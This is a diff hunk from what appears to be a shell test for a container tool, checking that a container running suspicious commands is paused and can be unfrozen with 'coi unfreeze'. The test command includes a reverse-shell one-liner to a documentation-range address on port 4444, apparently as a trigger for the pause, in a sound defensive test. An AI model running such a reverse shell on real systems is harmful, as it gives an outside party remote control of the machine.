@@ -267,7 +267,8 @@ cleaned() { # NAME: no supervisor of it is left
 	make_workspace "$T/paused"
 	cd "$T/paused"
 	name=$(container_name)
-	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 3; echo went on' 3>&- >"$T/out" 2>"$T/told" &
+	# Many short sleeps: one long one would be over when it goes on, before that is told.
+	coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; for i in {1..30}; do sleep 0.1; done; echo went on' 3>&- >"$T/out" 2>"$T/told" &
 	pid=$!
 	within 30 grep -q "'$name' is paused.*'coi unfreeze $name'" "$T/told"
 	run -0 --separate-stderr coi unfreeze "$name"
